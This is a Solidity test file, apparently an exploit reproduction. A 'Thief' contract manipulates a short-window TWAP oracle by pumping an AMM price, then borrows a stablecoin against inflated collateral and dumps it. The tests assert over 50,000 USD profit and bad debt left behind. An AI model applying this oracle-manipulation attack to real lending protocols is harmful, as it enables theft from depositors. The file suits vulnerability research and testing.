// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {AverageOracle} from "../short-twap/src/AverageOracle.sol";
import {PesoMint} from "../short-twap/src/PesoMint.sol";
import {ReedPair} from "../short-twap/src/ReedPair.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
    function warp(uint256) external;
    function roll(uint256) external;
}

contract Thief {
    ShortTwapTest private immutable t = ShortTwapTest(msg.sender);

    /// In one block: a new window begins with the price that its first trade makes.
    function pump() external {
        t.usd().approve(address(t.pair()), type(uint256).max);
        t.reed().approve(address(t.pair()), type(uint256).max);
        t.reed().approve(address(t.peso()), type(uint256).max);
        t.oracle().update();
        t.pair().buy(t.usd().balanceOf(address(this)), 0);
    }

    /// In the next one: the window of one block is the price.
    function cash(uint256 reeds) external {
        t.oracle().update();
        t.peso().lockReed(reeds);
        t.peso().issue(t.peso().collateral(address(this)) * 0.6e18 / 1.00501e18);
        t.peso().deskSell(t.peso().balanceOf(address(this)));
        t.pair().sell(t.reed().balanceOf(address(this)), 0);
    }
}

contract ShortTwapTest {
    event log_named_decimal_uint(string key, uint256 value, uint256 decimals);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant luis = address(0x11);
    address private constant marta = address(0x12);
    address private constant nico = address(0x13);

    Token public reed;
    Token public usd;
    ReedPair public pair;
    AverageOracle public oracle;
    PesoMint public peso;
    Thief private thief;

    function setUp() public {
        vm.warp(1_700_000_000);
        reed = new Token("Reed", "REED");
        usd = new Token("Dollar", "USD");
        pair = new ReedPair(reed, usd);
        reed.mint(address(this), 60_000 ether);
        usd.mint(address(this), 60_000 ether);
        reed.approve(address(pair), type(uint256).max);
        usd.approve(address(pair), type(uint256).max);
        pair.fund(60_000 ether, 60_000 ether);
        oracle = new AverageOracle(pair, new Feed(6, 1e6, address(this)));
        peso = new PesoMint(reed, usd, oracle);
        _fund(luis, 220_000 ether, 5_000 ether);
        _fund(marta, 0, 1_500_000 ether);
        _fund(nico, 8_000 ether, 300_000 ether);
        thief = new Thief();
        _fund(address(thief), 20_000 ether, 120_000 ether);
        vm.roll(300);
        vm.warp(1_700_003_600);
        oracle.update();
        vm.startPrank(luis);
        peso.lockReed(200_000 ether);
        peso.issue(90_000 ether);
        vm.stopPrank();
        vm.startPrank(marta);
        peso.deskBuy(1_400_000 ether);
        vm.stopPrank();
        vm.startPrank(nico);
        peso.deskBuy(100_000 ether);
        vm.stopPrank();
        vm.roll(301);
        vm.warp(1_700_003_612);
    }

    function _fund(address who, uint256 reeds, uint256 usds) private {
        reed.mint(who, reeds);
        usd.mint(who, usds);
        vm.startPrank(who);
        reed.approve(address(peso), type(uint256).max);
        usd.approve(address(peso), type(uint256).max);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        _attack(0, 12);
    }

    function test_attack_pays_who_waits_longer() public {
        _attack(1_800, 1_800);
    }

    function _attack(uint256 before, uint256 wait) private {
        vm.warp(1_700_003_612 + before);
        uint256 had = reed.balanceOf(address(thief)) + usd.balanceOf(address(thief));
        thief.pump();
        vm.roll(301 + (before + wait) / 12);
        vm.warp(1_700_003_612 + before + wait);
        thief.cash(35_000 ether);
        uint256 wealth =
            reed.balanceOf(address(thief)) + usd.balanceOf(address(thief)) + peso.balanceOf(address(thief));
        emit log_named_decimal_uint("profit in usd", wealth - had, 18);
        require(wealth - had > 50_000 ether, "no profit");
        require(peso.debt(address(thief)) > 3 * peso.lockedReed(address(thief)), "no bad debt");
    }
}
